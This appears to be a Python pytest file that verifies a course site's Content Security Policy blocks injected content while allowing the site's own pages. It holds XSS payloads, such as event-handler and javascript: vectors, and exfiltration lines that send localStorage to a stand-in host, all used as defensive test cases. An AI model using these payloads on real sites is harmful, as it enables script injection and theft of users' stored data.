"""The security policy of published pages: nothing of ours is blocked, and all else is."""

import pytest
from serving import HandlerOfPagesAsTheyAre, Server
from steps import ANSWERED, RIGHT, WRONG, Item, settle

from coursewright.cli import main
from support import assembled, copy_sample

LISTEN = """addEventListener("securitypolicyviolation", (event) => {
  (top.blocked ??= []).push(`${event.effectiveDirective} ${event.blockedURI}`);
});"""
ELSEWHERE = "https://stats.example.edu"


@pytest.fixture(scope="module")
def published(site, serve_for_module):
    return serve_for_module(site, HandlerOfPagesAsTheyAre)


@pytest.fixture(scope="module")
def by_zensical(tmp_path_factory):
    folder = tmp_path_factory.mktemp("protected")
    root = copy_sample(folder / "course")
    tree = assembled(root, folder / "tree")
    assert main(["protect", str(tree)], root) == 0
    server = Server(tree, HandlerOfPagesAsTheyAre)
    yield server
    server.close()


def blocked(page):
    return page.evaluate("window.blocked ?? []")


def answered(page):
    for kind in ANSWERED:
        Item(page, kind).answer((WRONG | RIGHT)[kind])


def searched(page):
    page.locator("input.md-search__input").press_sequentially("survey")
    page.locator(".md-search-result__item").first.wait_for()
    page.keyboard.press("Enter")


def finished(page):
    Item(page, "single").answer(RIGHT["single"])
    page.locator("course-finish button").click()
    page.locator("#finish [data-do=clear]").click()
    page.locator(".finish__sentence").wait_for()


def printed(page):
    page.emulate_media(media="print")
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    page.emulate_media(media="screen")


def in_the_dark(page):
    page.locator(".palette label").nth(1).click()


WALK = [
    ("", in_the_dark), ("question-types/", answered), ("modules/sample/", searched),
    ("modules/sample/", finished), ("modules/sample/", printed), ("cards/", printed),
    ("figures/", in_the_dark), ("references/", in_the_dark), ("glossary/", printed),
    ("review/", printed), ("your-data/", printed), ("404.html", printed),
]  # fmt: skip


@pytest.mark.parametrize(("address", "do"), WALK)
def test_nothing_of_ours_is_blocked(open_page, published, address, do):
    page = open_page(published.address(address), before=LISTEN)

    do(page)

    page.wait_for_load_state("networkidle")
    assert blocked(page) == []
    # `open_page` complains about every error that was logged, too.


@pytest.fixture(scope="module")
def published_course(course_site, serve_for_module):
    return serve_for_module(course_site, HandlerOfPagesAsTheyAre)


@pytest.mark.parametrize(
    "address",
    ["", "modules/irb/", "modules/irb/decision/", "worksheets/mentoring-compact/", "progress/",
     "review/", "domains/", "pair/", "facilitate/", "notes/", "trace/", "your-data/"],
)  # fmt: skip
def test_nothing_of_the_course_is_blocked(open_page, published_course, address):
    page = open_page(published_course.address(address), before=LISTEN)

    page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
    printed(page)

    page.wait_for_load_state("networkidle")
    assert blocked(page) == []


def test_nothing_of_ours_is_blocked_where_zensical_has_built(open_page, by_zensical):
    page = open_page(by_zensical.address("question-types/"), before=LISTEN)

    answered(page)
    printed(page)

    page.wait_for_load_state("networkidle")
    assert blocked(page) == []


@pytest.mark.parametrize("address", ["index.html", "modules/sample/index.html"])
def test_nothing_of_ours_is_blocked_on_a_disk(open_page, tmp_path, address):
    from support import built, edit

    root = copy_sample(tmp_path / "course")
    edit(root, "mkdocs.yml", "hooks:\n", "use_directory_urls: false\nhooks:\n")
    page = open_page((built(root) / address).as_uri(), before=LISTEN)

    printed(page)

    assert blocked(page) == []
    assert page.evaluate("[...document.querySelectorAll('course-finish:defined')].length") == 1


@pytest.fixture
def attacked(open_page, published):
    """A page of ours, and what it got from another host."""
    page = open_page(
        published.address("modules/sample/"), and_from=ELSEWHERE, tolerate="", before=LISTEN
    )
    got = []
    page.on("response", lambda response: got.append(response.url))
    page.got = got
    return page


def stopped(page):
    """Insist that something was blocked, that nothing ran, and that nobody else was reached."""
    page.evaluate(
        """async () => {
          for (let look = 0; look < 1000 && !top.blocked; look += 1) {
            await new Promise((done) => setTimeout(done, 10));
          }
        }"""
    )
    assert blocked(page)
    settle(page)
    assert page.evaluate("'hacked' in window") is False
    assert not [address for address in page.got if not address.startswith("http://127.0.0.1")]
    return True


def inject(page, html):
    """As words that a page takes for HTML would come in."""
    page.evaluate(
        """html => document.querySelector("article").append(
          document.createRange().createContextualFragment(html))""",
        html,
    )


INJECTED = {
    "a script": "<script>hacked = 1</script>",
    "a script of another host": f"<script src='{ELSEWHERE}/a.js'></script>",
    "a handler": "<img src='data:,' onerror='hacked = 1'>",
    "a handler that waits": "<svg onload='hacked = 1'></svg><details open ontoggle='hacked = 1'>",
    "a picture of another host": f"<img src='{ELSEWHERE}/a.png'>",
    "a frame": f"<iframe src='{ELSEWHERE}/'></iframe>",
    "a frame with a script": "<iframe srcdoc='<script>top.hacked = 1</script>'></iframe>",
    "a frame of a script": "<iframe src='javascript:top.hacked = 1'></iframe>",
    "a style of another host": f"<link rel=stylesheet href='{ELSEWHERE}/a.css'>",
    "a style": "<style>body { display: none }</style>",
    "a style that loads": f"<p style=\"background: url('{ELSEWHERE}/b.png')\">Words</p>",
    "a plug-in": f"<object data='{ELSEWHERE}/a.swf'></object>",
    "a film": f"<video src='{ELSEWHERE}/a.mp4' autoplay></video>",
}


@pytest.mark.parametrize("html", INJECTED.values(), ids=INJECTED)
def test_what_is_injected_is_blocked(attacked, html):
    inject(attacked, html)

    assert stopped(attacked)
    assert attacked.locator("body").is_visible()


@pytest.mark.parametrize(
    ("html", "press"),
    [
        ("<a class='x' href='javascript:hacked = 1'>Read on</a>", "a.x"),
        (f"<form action='{ELSEWHERE}/'><button class='x'>Send</button></form>", "button.x"),
        ("<form action='javascript:hacked = 1'><button class='x'>Send</button></form>", "button.x"),
        ("<button class='x' onclick='hacked = 1'>Press</button>", "button.x"),
    ],
)
def test_what_is_injected_and_pressed_is_blocked(attacked, html, press):
    address = attacked.url
    inject(attacked, html)

    # Without the driver's waiting for a page that never comes.
    attacked.locator(press).evaluate("one => one.click()")

    assert stopped(attacked)
    assert attacked.url == address


@pytest.mark.parametrize(
    "code",
    [
        f"fetch('{ELSEWHERE}/?all=' + JSON.stringify(localStorage)).catch(() => 0)",
        f"navigator.sendBeacon('{ELSEWHERE}/', 'all')",
        f"void new WebSocket('{ELSEWHERE.replace('https', 'wss')}/')",
        f"void (new Image().src = '{ELSEWHERE}/?all')",
        # Later, since what the driver itself runs is let be.
        "void setTimeout(() => eval('hacked = 1'))",
        "void setTimeout(() => new Function('hacked = 1')())",
        "void (document.body.append(Object.assign(document.createElement('base'), {href: '/x/'})))",
    ],
)
def test_a_script_that_runs_all_the_same_reaches_nobody(attacked, code):
    """As one that an institution has put into its own files."""
    attacked.evaluate(code)

    assert stopped(attacked)
